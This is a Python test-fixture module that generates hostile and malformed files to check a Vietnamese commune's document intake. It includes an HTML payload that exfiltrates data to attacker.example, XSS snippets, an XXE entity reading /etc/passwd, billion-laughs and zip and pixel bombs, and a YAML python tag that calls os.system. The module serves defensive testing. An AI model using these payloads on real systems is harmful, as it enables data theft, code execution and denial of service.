"""Hostile and odd inbox drops: each a small spec, its bytes made at test time (nothing binary committed).

A :class:`Drop` says what lands in the commune's inbox — a document (perhaps in an item sub-folder,
perhaps with a sidecar ``.yaml``), or a symlink, a FIFO, a directory, a file still being written —
how its bytes are made, and what intake must make of it (the outcome once the defects of issue 12
are fixed):

- ``case``: filed in the archive, byte-identical (``ext``: the extension it is archived under,
  from its content, never its name; a sidecar is kept beside it in the case folder);
- ``review``: set aside in ``review/`` with a Vietnamese note;
- ``errors``: quarantined in ``errors/`` with a Vietnamese note (``kinds``: accepted error kinds);
- ``waiting``: not yet stable (still being written): left in the inbox for a later scan;
- ``skipped``: junk or hidden: left in the inbox untouched;
- ``left``: not a document candidate at all (an empty directory named ``….pdf``): left alone.

``build(workdir)`` makes the bytes of every drop: Nghị định 30-looking .docx documents from
``tests/corpus/make_corpus`` (one per official number and date, so each files as its own case),
one LibreOffice run for every PDF, ``pdftoppm`` for the two scans (OCR costs ~7 s a page), and
hand-made hostile bytes for the rest.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import struct
import subprocess
import tempfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.corpus import make_corpus

CASE, REVIEW, ERRORS, WAITING, SKIPPED, LEFT = "case", "review", "errors", "waiting", "skipped", "left"
ANY = "*"  # item: not checked

Q4_8 = ("Về việc phê duyệt danh sách công dân đủ điều kiện nhập ngũ năm 2025",)
TAN_DINH = ("ỦY BAN NHÂN DÂN", "XÃ TÂN DĨNH")
#: What a python tag in a sidecar would run if it were ever constructed (the test checks it never is).
PWNED = "pwned-by-sidecar"


@dataclass(frozen=True)
class Doc:
    """An official document of UBND thị trấn Kép (by default: a Q4-8 decision, December 2024)."""

    number: str
    day: int
    subject: tuple[str, ...] = Q4_8
    code: str = "QĐ-UBND"
    doc_type: str | None = "QUYẾT ĐỊNH"
    issuer_lines: tuple[str, ...] = make_corpus.UBND
    place: str = "Kép"
    body: tuple[str, ...] = ()
    month: int = 12

    def spec(self) -> make_corpus.Spec:
        return make_corpus.Spec(
            f"{self.number}.docx", "docx", self.number, self.code, dt.date(2024, self.month, self.day),
            self.doc_type, list(self.subject), "Đặng Minh Khôi", issuer_lines=self.issuer_lines,
            place=self.place, body_lines=self.body)


@dataclass(frozen=True)
class Drop:
    """One thing dropped into the inbox and the outcome intake must reach."""

    id: str
    name: str  # file name as dropped (may hold control characters, NFD, surrogate-escaped bytes)
    outcome: str
    doc: Doc | None = None  # the document whose bytes (in ``form``) are dropped
    form: str = "docx"  # docx | pdf | png | jpeg | pdf_js | pdf_tail_script | pdf_half | pdf_owner_password
    #                     | docx_doctype_utf16 | docx_doctype_after_comment | docx_xxe | docx_laughs
    #                     | docx_doctype_rels | docm | docx_lying_size
    raw: Callable[[], bytes] | None = None  # hand-made bytes instead of a document
    sub: str | None = None  # an item sub-folder of the inbox
    sidecar: str | None = None  # the sidecar's name, beside the document
    sidecar_data: bytes | None = None
    sidecar_link: bool = False  # the sidecar is a symlink to a .yaml (holding sidecar_data) outside the inbox
    special: str | None = None  # symlink_passwd | symlink_doc | fifo | dir
    writer: str | None = None  # half | empty | paused: another process is still writing it during pass 1
    #                            (half, empty: the copier kept the source's old mtime; paused: mtime 3 s ago)
    young: bool = False  # written just before the pass (mtime and ctime now)
    phase: int = 1  # dropped before pass 1 or before pass 2
    first: str | None = None  # the outcome after pass 1, when it differs from the final one
    ext: tuple[str, ...] = ()  # accepted archive extensions (case)
    kinds: tuple[str, ...] = ()  # accepted error kinds (errors)
    item: str | None = ANY  # expected plan item (case)
    law_item: int | None = None  # expected law item (case), when given
    note_has: tuple[str, ...] = ()  # strings the errors/review note must contain
    subject_has: tuple[str, ...] = ()  # strings the filed case's subject must contain
    version_of: str | None = None  # id of the drop whose case this re-scan becomes a new version of
    defect: int | None = None  # the issue-12 defect this encodes

    @property
    def rel(self) -> str:
        return f"{self.sub}/{self.name}" if self.sub else self.name


@dataclass
class Built:
    data: bytes | None  # the document's bytes (None: a FIFO or a directory)
    sidecar: bytes | None = None
    link_target: str | None = None  # symlinks: where the link points
    extra: dict = field(default_factory=dict)


# ------------------------------------------------------------------ hand-made hostile bytes


def _pdf(pages: int = 0, encrypt: str | None = None) -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    for _ in range(pages):
        w.add_blank_page(595, 842)
    if encrypt:
        w.encrypt(user_password=encrypt, owner_password="chu-so-huu", algorithm="AES-256")
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    return _pdf(1, encrypt="matkhau")


def zero_page_pdf() -> bytes:
    return _pdf(0)


def blank_page_pdf() -> bytes:
    return _pdf(1)


def html_js() -> bytes:
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Quyết định</title></head><body>"
            "<script>fetch('/api/v2/connections').then(r=>r.text()).then(t=>navigator.sendBeacon("
            "'https://attacker.example/', t))</script><h1>QUYẾT ĐỊNH</h1></body></html>\n").encode()


def svg() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
            b'width="200" height="100" onload="alert(document.domain)"><script>alert(1)</script>'
            b'<text x="10" y="50">QUYET DINH</text></svg>\n')


def elf() -> bytes:
    head = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1)
    return head + random.Random(7).randbytes(4000)


def random_bytes(seed: int) -> Callable[[], bytes]:
    def make() -> bytes:
        data = bytearray(random.Random(seed).randbytes(8192))
        data[:4] = b"\x13\x37\x00\x42"  # never a known magic number by chance
        return bytes(data)

    return make


def old_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + random.Random(3).randbytes(3000)


def office_encrypted() -> bytes:
    """A password-protected .docx: Office stores it as a CFB container (EncryptionInfo stream)."""
    name = "EncryptionInfo".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + name + random.Random(4).randbytes(3000)


def text_file() -> bytes:
    return "Ghi chú: nhớ thả bản PDF đã ký vào hộp thư.\n".encode()


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 12, 1, 8, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


CT_DOCX = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org'
           b'/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
           b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
           b'wordprocessingml.document.main+xml"/></Types>')


def zip_bomb() -> bytes:
    """A 'docx' whose document part inflates 30 MB of spaces from ~30 KB (ratio > 200)."""
    return _zip({"[Content_Types].xml": CT_DOCX,
                 "word/document.xml": b"<w:document>" + b" " * (30 * 1024 * 1024) + b"</w:document>"})


def xlsx() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def plain_zip() -> bytes:
    return _zip({"ho-so/danh-sach.txt": "Danh sách công dân".encode()})


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_pixel_bomb() -> bytes:
    """A valid-looking PNG header declaring 60000 x 60000 pixels (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", 60000, 60000, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_corrupt() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00" * 300


def tiff_blank() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (600, 800), 255).save(out, "TIFF")
    return out.getvalue()


def oversized() -> bytes:
    """6 MB: over the 5 MB limit the test sets (CONGKHAI_INTAKE_MAX_MB=5)."""
    return b"%PDF-1.4\n%" + b"0" * (6 * 1024 * 1024) + b"\n%%EOF\n"


def empty() -> bytes:
    return b""


def junk(text: str) -> Callable[[], bytes]:
    return lambda: f"junk: {text}\n".encode()


# ------------------------------------------------------------------ hostile sidecars


def yaml_laughs() -> bytes:
    """Billion laughs with YAML aliases, all inside a known field (10^6 leaves when expanded)."""
    levels = ["&l0 [" + ", ".join(["lol"] * 10) + "]"]
    for i in range(1, 6):
        levels.append(f"&l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]")
    return ("subject: [" + ", ".join(levels) + "]\n").encode()


def yaml_python_tag(marker: Path) -> bytes:
    return f'item: !!python/object/apply:os.system ["touch {marker}"]\n'.encode()


def yaml_huge() -> bytes:
    return b"item: Q4-9\n" + b"".join(b"# " + b"x" * 98 + b"\n" for _ in range(2000))


# ------------------------------------------------------------------ the corpus


def _d(number: int, day: int, **kw) -> Doc:
    return Doc(str(number), day, **kw)


def drops() -> list[Drop]:
    """Every hostile or odd drop, with the outcome intake must reach once issue 12 is fixed."""
    other_body = ("Căn cứ Luật Đất đai ngày 18 tháng 01 năm 2024;",
                  "Ủy ban nhân dân xã Tân Dĩnh ban hành kế hoạch thu hồi đất thực hiện dự án trên địa bàn xã.",
                  "Các thôn, các hộ gia đình có đất bị thu hồi phối hợp thực hiện.")
    posting_body = ("Kính gửi: UBND thị trấn Kép.",
                    "Ủy ban nhân dân xã Tân Dĩnh thông báo thu hồi đất để thực hiện dự án đường tỉnh 295 đoạn "
                    "qua xã Tân Dĩnh và thị trấn Kép. Đề nghị UBND thị trấn Kép niêm yết công khai thông báo "
                    "này tại trụ sở và nhà văn hóa các tổ dân phố có đất bị thu hồi.",)
    kh = {"code": "KH-UBND", "doc_type": "KẾ HOẠCH"}
    tb = {"code": "TB-UBND", "doc_type": "THÔNG BÁO"}
    neutral = ("Nội dung chi tiết như tài liệu kèm theo.", "Đề nghị các bộ phận liên quan thực hiện.")
    vi_255 = _name_of_bytes("Quyết định phê duyệt danh sách công dân đủ điều kiện nhập ngũ ", 250) + ".docx"
    vi_255_empty = _name_of_bytes("Tệp rỗng có tên rất dài của văn thư thị trấn Kép ", 251) + ".pdf"
    base_rescan = _d(350, 16)
    dup = _d(351, 16)
    redrop = _d(352, 17)
    return [
        # ---- (1) the archive extension comes from the bytes, never the name
        Drop("pdf-named-html", "Thong bao nhap ngu.html", CASE, _d(330, 2), "pdf", ext=("pdf",), item="Q4-8",
             defect=1),
        Drop("png-scan-named-docx", "Quyet dinh 331.docx", CASE, _d(331, 3), "png", ext=("png",), defect=1),
        Drop("jpeg-scan-named-pdf", "scan_0332.pdf", CASE, _d(332, 4), "jpeg", ext=("jpg", "jpeg"), defect=1),
        Drop("emoji-name-no-extension", "📄🙂✅", CASE, _d(333, 5), ext=("docx",), item="Q4-8", defect=1),
        Drop("rtl-override-name", "Quyết định 334\u202excod.exe", CASE, _d(334, 5), ext=("docx",), defect=1),
        # ---- (2) subjects with XML/HTML special characters file like any other
        Drop("subject-xml-chars", "KH thu hoi dat.docx", CASE,
             _d(310, 9, subject=("Thu hồi đất, bồi thường, hỗ trợ & tái định cư dự án <Khu dân cư số 2>",
                                 "\"đường tỉnh 295\" đoạn qua thị trấn Kép 'đợt 1'"), **kh),
             ext=("docx",), item="N-2", subject_has=("&", "<", ">", '"', "'"), defect=2),
        Drop("subject-xml-chars-in-item-folder", "TB ho tro.docx", CASE,
             _d(311, 9, subject=("Hỗ trợ khắc phục thiên tai cho hộ \"Nguyễn Văn A\" & <hộ B> 'xóm Đồng'",), **tb),
             sub="N-7", ext=("docx",), item="N-7", subject_has=("&", "<", ">", '"', "'"), defect=2),
        # ---- (4) an invalid sidecar field: errors/, a Vietnamese note naming the field
        Drop("sidecar-law-item-abc", "QD 370.docx", ERRORS, _d(370, 2), sidecar="QD 370.docx.yaml",
             sidecar_data=b"law_item: abc\n", kinds=("bad_sidecar",), note_has=("law_item",), defect=4),
        Drop("sidecar-law-item-99", "QD 371.docx", ERRORS, _d(371, 2), sidecar="QD 371.yaml",
             sidecar_data=b"item: null\nlaw_item: 99\n", kinds=("bad_sidecar",), note_has=("law_item",), defect=4),
        Drop("sidecar-item-list", "QD 372.docx", ERRORS, _d(372, 2), sidecar="QD 372.docx.yaml",
             sidecar_data=b"item: [Q4-9, Q4-10]\n", kinds=("bad_sidecar", "unknown_item"), note_has=("item",),
             defect=4),
        Drop("sidecar-issued-impossible-date", "QD 373.docx", ERRORS, _d(373, 2), sidecar="QD 373.docx.yaml",
             sidecar_data=b"issued: 2024-02-30\n", kinds=("bad_sidecar",), note_has=("issued",), defect=4),
        Drop("sidecar-dropped-bad-date", "QD 374.docx", ERRORS, _d(374, 2), sidecar="QD 374.docx.yaml",
             sidecar_data=b"dropped: 13/02/2024\n", kinds=("bad_sidecar",), note_has=("dropped",), defect=4),
        Drop("sidecar-subject-mapping", "QD 375.docx", ERRORS, _d(375, 2), sidecar="QD 375.docx.yaml",
             sidecar_data=b"subject: {a: 1, b: [2, 3]}\n", kinds=("bad_sidecar",), note_has=("subject",),
             defect=4),
        Drop("sidecar-unknown-field", "QD 376.docx", ERRORS, _d(376, 3), sidecar="QD 376.docx.yaml",
             sidecar_data="mục: Q4-9\n".encode(), kinds=("bad_sidecar",), note_has=("mục",), defect=4),
        Drop("sidecar-not-a-mapping", "QD 377.docx", ERRORS, _d(377, 3), sidecar="QD 377.docx.yaml",
             sidecar_data=b"- item: Q4-9\n- law_item: 9\n", kinds=("bad_sidecar",)),
        Drop("sidecar-binary-garbage", "QD 378.docx", ERRORS, _d(378, 3), sidecar="QD 378.docx.yaml",
             sidecar_data=b"item: Q4-9\n\xff\xfe\x00\x01\x80garbage\n", kinds=("bad_sidecar",)),
        Drop("sidecar-huge", "QD 379.docx", ERRORS, _d(379, 3), sidecar="QD 379.docx.yaml",
             sidecar_data=yaml_huge(), kinds=("bad_sidecar",)),
        Drop("sidecar-python-tag", "QD 380.docx", ERRORS, _d(380, 4), sidecar="QD 380.docx.yaml",
             sidecar_data=None, kinds=("bad_sidecar",)),  # bytes need the marker path: see build()
        # ---- (10) YAML aliases are refused (billion laughs), with little memory
        Drop("sidecar-yaml-billion-laughs", "QD 381.docx", ERRORS, _d(381, 4), sidecar="QD 381.docx.yaml",
             sidecar_data=yaml_laughs(), kinds=("bad_sidecar",), defect=10),
        Drop("sidecar-yaml-small-alias", "QD 382.docx", ERRORS, _d(382, 4), sidecar="QD 382.docx.yaml",
             sidecar_data=b"item: &x Q4-9\nsubject: *x\n", kinds=("bad_sidecar",), defect=10),
        # ---- (12) sidecars: kept with the original; upper-case .YAML; a symlink is refused
        Drop("sidecar-forces-item", "QD 383.docx", CASE, _d(383, 5), sidecar="QD 383.docx.yaml",
             sidecar_data=b"item: Q4-9\ndropped: 2024-12-20\n", ext=("docx",), item="Q4-9", defect=12),
        Drop("sidecar-upper-case-YAML", "QD 384.docx", CASE, _d(384, 5), sidecar="QD 384.docx.YAML",
             sidecar_data=b"item: Q4-10\n", ext=("docx",), item="Q4-10", defect=12),
        Drop("sidecar-symlink", "QD 385.docx", ERRORS, _d(385, 5), sidecar="QD 385.docx.yaml",
             sidecar_data=b"item: Q4-11\n", sidecar_link=True, kinds=("bad_sidecar",), note_has=("symlink",),
             defect=12),
        Drop("sidecar-with-bom", "QD 386.docx", CASE, _d(386, 6), sidecar="QD 386.yaml",
             sidecar_data=b"\xef\xbb\xbfitem: Q4-12\n", ext=("docx",), item="Q4-12"),
        Drop("sidecar-item-null-law-item", "QD 387.docx", CASE, _d(387, 6), sidecar="QD 387.docx.yaml",
             sidecar_data=b"item: null\nlaw_item: 5\n", ext=("docx",), item=None, law_item=5),
        Drop("sidecar-item-not-in-plan", "QD 388.docx", ERRORS, _d(388, 6), sidecar="QD 388.docx.yaml",
             sidecar_data=b"item: Q9-9\n", kinds=("unknown_item",), note_has=("Q9-9",)),
        Drop("sidecar-beats-item-folder", "QD 389.docx", CASE, _d(389, 6), sub="Q4-10",
             sidecar="QD 389.docx.yaml", sidecar_data=b"item: Q4-9\n", ext=("docx",), item="Q4-9"),
        Drop("item-folder-unknown", "QD 390.docx", ERRORS, _d(390, 6), sub="Q7-1", kinds=("unknown_item",),
             note_has=("Q7-1",)),
        # ---- (5) a file still being written waits; it is taken once complete
        Drop("being-written-half-pdf", "dang chep.pdf", CASE, _d(340, 10), "pdf", writer="half", first=WAITING,
             ext=("pdf",), defect=5),
        Drop("being-written-empty-docx", "Moi tao.docx", CASE, _d(341, 10), writer="empty", first=WAITING,
             ext=("docx",), defect=5),
        Drop("being-written-paused-copy", "dang chep do.pdf", CASE, _d(339, 10), "pdf", writer="paused",
             first=WAITING, ext=("pdf",), defect=5),
        Drop("young-file", "vua tha.docx", WAITING, _d(342, 10), young=True, phase=2, defect=5),
        # ---- (6) another commune's document: review, unless addressed to us for posting
        Drop("issued-by-other-commune", "KH Tan Dinh.docx", REVIEW,
             _d(45, 11, subject=("Thu hồi đất, bồi thường, hỗ trợ, tái định cư thực hiện dự án",
                                 "đường tỉnh 295 đoạn qua xã Tân Dĩnh"), issuer_lines=TAN_DINH,
                place="Tân Dĩnh", body=other_body, **kh), defect=6),
        Drop("other-commune-for-posting-here", "TB Tan Dinh.docx", CASE,
             _d(52, 11, subject=("Thu hồi đất để thực hiện dự án đường tỉnh 295",
                                 "đoạn qua xã Tân Dĩnh và thị trấn Kép"), issuer_lines=TAN_DINH,
                place="Tân Dĩnh", body=posting_body, **tb), ext=("docx",), defect=6),
        # ---- (7) no usable subject: review, never the file name as the subject
        Drop("subject-emoji", "Quyet dinh quan trong.docx", REVIEW,
             _d(320, 12, subject=("🙂🙂🙂 ✅✅✅ 📄📄",), body=neutral, **tb), defect=7),
        Drop("subject-garbage-in-item-folder", "Danh sach goi nhap ngu.docx", REVIEW,
             _d(321, 12, subject=("@@@ ### $$$ %%% ^^^",), body=neutral, **tb), sub="Q4-9", defect=7),
        Drop("subject-missing-in-item-folder", "Danh sach tam hoan.docx", REVIEW,
             _d(322, 12, subject=(), body=neutral, **tb), sub="Q4-10", defect=7),
        # ---- (9) DOCTYPE/ENTITY anywhere in any XML part: refused before python-docx
        Drop("docx-doctype-utf16", "QD 391.docx", ERRORS, _d(391, 13), "docx_doctype_utf16", kinds=("entity",),
             defect=9),
        Drop("docx-doctype-after-long-comment", "QD 392.docx", ERRORS, _d(392, 13), "docx_doctype_after_comment",
             kinds=("entity",), defect=9),
        Drop("docx-xxe-classic", "QD 393.docx", ERRORS, _d(393, 13), "docx_xxe", kinds=("entity",)),
        Drop("docx-billion-laughs", "QD 394.docx", ERRORS, _d(394, 13), "docx_laughs", kinds=("entity",)),
        Drop("docx-doctype-in-rels", "QD 395.docx", ERRORS, _d(395, 13), "docx_doctype_rels", kinds=("entity",)),
        Drop("docm-macros", "QD 396.docx", ERRORS, _d(396, 13), "docm", kinds=("wrong_type", "corrupt")),
        Drop("docx-zip-lies-about-size", "QD 397.docx", ERRORS, _d(397, 13), "docx_lying_size",
             kinds=("bomb", "corrupt")),
        Drop("docx-zip-bomb", "bom nen.docx", ERRORS, raw=zip_bomb, kinds=("bomb",)),
        Drop("xlsx-named-docx", "bang tinh.docx", ERRORS, raw=xlsx, kinds=("wrong_type",)),
        Drop("zip-named-docx", "nen.docx", ERRORS, raw=plain_zip, kinds=("wrong_type",)),
        Drop("office-password-docx", "co mat khau.docx", ERRORS, raw=office_encrypted,
             kinds=("encrypted", "wrong_type")),
        Drop("old-word-doc", "cu.doc", ERRORS, raw=old_doc, kinds=("wrong_type",)),
        # ---- PDFs: encrypted, empty, truncated, no pages, blank, active content (kept, never run)
        Drop("pdf-encrypted", "khoa.pdf", ERRORS, raw=encrypted_pdf, kinds=("encrypted",)),
        Drop("pdf-owner-password-only", "QD 345.pdf", CASE, _d(345, 14), "pdf_owner_password", ext=("pdf",)),
        Drop("empty-file", "rong.pdf", ERRORS, raw=empty, kinds=("empty",)),
        Drop("pdf-truncated", "QD 346.pdf", ERRORS, _d(346, 14), "pdf_half", kinds=("corrupt",)),
        Drop("pdf-zero-pages", "khong trang.pdf", ERRORS, raw=zero_page_pdf, kinds=("corrupt",)),
        Drop("pdf-blank-page", "trang trang.pdf", ERRORS, raw=blank_page_pdf, kinds=("unreadable",)),
        Drop("pdf-javascript-action", "QD 343.pdf", CASE, _d(343, 14), "pdf_js", ext=("pdf",), item="Q4-8"),
        Drop("pdf-script-after-eof", "QD 344.pdf", CASE, _d(344, 14), "pdf_tail_script", ext=("pdf",),
             item="Q4-8"),
        Drop("oversized", "qua lon.pdf", ERRORS, raw=oversized, kinds=("oversized",)),
        # ---- not documents at all
        Drop("html-js-named-pdf", "Quyet dinh.pdf", ERRORS, raw=html_js, kinds=("wrong_type",)),
        Drop("svg", "logo.svg", ERRORS, raw=svg, kinds=("wrong_type",)),
        Drop("svg-named-png", "anh chup.png", ERRORS, raw=lambda: svg() + b"<!-- png -->\n", kinds=("wrong_type",)),
        Drop("elf-named-pdf", "QD 15.pdf", ERRORS, raw=elf, kinds=("wrong_type",)),
        Drop("random-bytes-named-pdf", "ngau nhien.pdf", ERRORS, raw=random_bytes(1), kinds=("wrong_type",)),
        Drop("random-bytes-named-docx", "ngau nhien.docx", ERRORS, raw=random_bytes(2), kinds=("wrong_type",)),
        Drop("text-file", "ghi chu.txt", ERRORS, raw=text_file, kinds=("wrong_type",)),
        Drop("png-pixel-bomb", "anh lon.png", ERRORS, raw=png_pixel_bomb, kinds=("bomb",)),
        Drop("png-corrupt", "anh hong.png", ERRORS, raw=png_corrupt, kinds=("corrupt",)),
        Drop("tiff-blank-named-jpg", "trang.jpg", ERRORS, raw=tiff_blank, kinds=("unreadable",)),
        Drop("symlink-to-etc-passwd", "ho so.pdf", ERRORS, special="symlink_passwd", kinds=("wrong_type",)),
        Drop("symlink-to-a-document", "lien ket.docx", ERRORS, _d(398, 18), special="symlink_doc",
             kinds=("wrong_type",)),
        Drop("fifo", "ong.pdf", ERRORS, special="fifo", kinds=("wrong_type",)),
        Drop("directory-named-pdf", "Quyết định 99.pdf", LEFT, special="dir"),
        # ---- names
        Drop("control-characters-in-name", "QĐ\x01 360\t\x1b[31mđỏ\x7f\n.docx", CASE, _d(360, 19),
             ext=("docx",)),
        Drop("name-255-bytes", vi_255, CASE, _d(361, 19), ext=("docx",)),
        Drop("name-255-bytes-empty-file", vi_255_empty, ERRORS, raw=empty, kinds=("empty",)),
        Drop("nfd-name", unicodedata.normalize("NFD", "Quyết định nhập ngũ số 362.docx"), CASE, _d(362, 19),
             ext=("docx",)),
        Drop("name-path-traversal", "a\\..\\..\\etc\\passwd 364.docx", CASE, _d(364, 19), ext=("docx",)),
        Drop("name-windows-reserved", "CON.docx", CASE, _d(365, 19), ext=("docx",)),
        Drop("name-trailing-dot-space", " QĐ 366.docx. ", CASE, _d(366, 19), ext=("docx",)),
        Drop("name-dotdot-hidden", "..\\..\\x.docx", SKIPPED, _d(367, 19)),
        # ---- junk: left alone
        Drop("junk-office-owner-file", "~$Quyết định.docx", SKIPPED, raw=junk("owner")),
        Drop("junk-thumbs-db", "Thumbs.db", SKIPPED, raw=junk("thumbs")),
        Drop("junk-hidden", ".an.pdf", SKIPPED, raw=junk("hidden")),
        Drop("junk-libreoffice-lock", ".~lock.QĐ 15.docx#", SKIPPED, raw=junk("lock")),
        Drop("junk-partial-download", "QĐ 15.pdf.crdownload", SKIPPED, raw=junk("partial")),
        Drop("junk-desktop-ini", "desktop.ini", SKIPPED, raw=junk("desktop")),
        Drop("junk-apple-double", "._QĐ 15.pdf", SKIPPED, raw=junk("appledouble")),
        # ---- duplicates and new versions
        Drop("duplicate-first", "Quyet dinh 351.docx", CASE, dup, ext=("docx",)),
        Drop("duplicate-second-same-pass", "Quyet dinh 351 (1).docx", ERRORS, dup, kinds=("duplicate",)),
        Drop("redrop-base", "Quyet dinh 352.docx", CASE, redrop, ext=("docx",)),
        Drop("redrop-next-pass", "Quyet dinh 352 - ban sao.docx", ERRORS, redrop, kinds=("duplicate",), phase=2),
        Drop("rescan-base", "QD 350.docx", CASE, base_rescan, ext=("docx",)),
        Drop("rescan-new-version", "QD 350 ban ky.pdf", CASE, base_rescan, "pdf", ext=("pdf",), phase=2,
             version_of="rescan-base"),
    ]


def _name_of_bytes(text: str, size: int) -> str:
    """``text`` repeated, cut at a character boundary to exactly ``size`` UTF-8 bytes (ASCII-padded)."""
    out = ""
    while True:
        for ch in text:
            if len((out + ch).encode()) > size:
                return out + "x" * (size - len(out.encode()))
            out += ch


# ------------------------------------------------------------------ building the bytes


PDF_FORMS = {"pdf", "png", "jpeg", "pdf_js", "pdf_tail_script", "pdf_half", "pdf_owner_password"}


def build(workdir: Path, marker: Path) -> dict[str, Built]:
    """Make every drop's bytes in ``workdir`` (LibreOffice once for all PDFs). ``marker``: the file a
    python-tagged sidecar would create if it were ever run."""
    workdir.mkdir(parents=True, exist_ok=True)
    all_drops = drops()
    docs: dict[Doc, Path] = {}
    for d in all_drops:
        if d.doc is not None and d.doc not in docs:
            p = workdir / f"d{len(docs):03d}.docx"
            make_corpus.write_docx(d.doc.spec(), p)
            docs[d.doc] = p
    need_pdf = sorted({docs[d.doc] for d in all_drops if d.doc is not None and d.form in PDF_FORMS})
    make_corpus.convert_all(need_pdf, workdir)
    out: dict[str, Built] = {}
    for d in all_drops:
        sidecar = d.sidecar_data
        if d.id == "sidecar-python-tag":
            sidecar = yaml_python_tag(marker)
        if d.raw is not None:
            data: bytes | None = d.raw()
        elif d.doc is not None:
            data = _form(d.form, docs[d.doc])
        else:
            data = None
        out[d.id] = Built(data, sidecar)
    return out


def _form(form: str, docx: Path) -> bytes:
    if not form.startswith("pdf") and form not in ("png", "jpeg"):
        return _docx_form(form, docx.read_bytes())
    pdf = docx.with_suffix(".pdf").read_bytes()
    if form == "pdf":
        return pdf
    if form in ("png", "jpeg"):
        return _scan(docx.with_suffix(".pdf"), form)
    if form == "pdf_half":
        return pdf[: len(pdf) // 2]
    if form == "pdf_tail_script":
        return pdf + b"\n<script>alert(document.cookie)</script>\n%!PS\n(pwned) print\n"
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    if form == "pdf_js":
        from pypdf.actions import JavaScript

        w.add_open_action(JavaScript("app.alert('congkhai: JavaScript trong PDF không bao giờ được chạy');"))
    elif form == "pdf_owner_password":
        w.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")
    else:
        raise ValueError(form)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _scan(pdf: Path, form: str) -> bytes:
    """Page 1 rasterised at 200 dpi in grey (a clean flat-bed scan), as PNG or JPEG."""
    from PIL import Image

    with tempfile.TemporaryDirectory() as td:
        subprocess.run(["pdftoppm", "-r", "200", "-gray", "-f", "1", "-l", "1", "-png", str(pdf), f"{td}/p"],
                       check=True, capture_output=True, timeout=120)
        png = next(Path(td).glob("p*.png"))
        if form == "png":
            return png.read_bytes()
        out = io.BytesIO()
        Image.open(png).convert("L").save(out, "JPEG", quality=85, dpi=(200, 200))
        return out.getvalue()


XML_DECL = re.compile(rb"^<\?xml[^>]*\?>\s*")


def _rezip(docx: bytes, change: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(docx))
    parts: dict[str, bytes] = {}
    for info in src.infolist():
        if info.filename in change:
            new = change[info.filename]
            if new is not None:
                parts[info.filename] = new
        else:
            parts[info.filename] = src.read(info)
    parts.update(add or {})
    return _zip(parts)


def _with_prolog(xml: bytes, prolog: bytes) -> bytes:
    """``xml`` with ``prolog`` (a comment, a DOCTYPE…) put right after its XML declaration."""
    m = XML_DECL.match(xml)
    head = m.group(0) if m else b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    return head + prolog + xml[m.end() if m else 0:]


def _docx_form(form: str, docx: bytes) -> bytes:
    if form == "docx":
        return docx
    z = zipfile.ZipFile(io.BytesIO(docx))
    doc_xml = z.read("word/document.xml")
    if form == "docx_doctype_utf16":
        body = XML_DECL.sub(b"", doc_xml).decode("utf-8")
        text = ('<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n'
                '<!DOCTYPE w:document [<!ENTITY kep "thị trấn Kép">]>\n' + body)
        return _rezip(docx, {"word/document.xml": text.encode("utf-16")})
    if form == "docx_doctype_after_comment":
        comment = b"<!-- " + b"Ban hanh kem theo Quyet dinh. " * 400 + b"-->\n"
        xml = _with_prolog(doc_xml, comment + b'<!DOCTYPE w:document SYSTEM "file:///etc/passwd">\n')
        return _rezip(docx, {"word/document.xml": xml})
    if form == "docx_xxe":
        xml = _with_prolog(doc_xml, b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
        xml = re.sub(rb"(<w:t(?: [^>]*)?>)", rb"\1&xxe;", xml, count=1)
        return _rezip(docx, {"word/document.xml": xml})
    if form == "docx_laughs":
        ents = b'<!ENTITY lol "lol">' + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol;" if i == 1 else b"&lol%d;" % (i - 1)) * 10) for i in range(1, 10))
        laughs = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [' + ents + b"]>\n<lolz>&lol9;</lolz>\n")
        return _rezip(docx, {}, add={"customXml/item1.xml": laughs})
    if form == "docx_doctype_rels":
        rels = z.read("word/_rels/document.xml.rels")
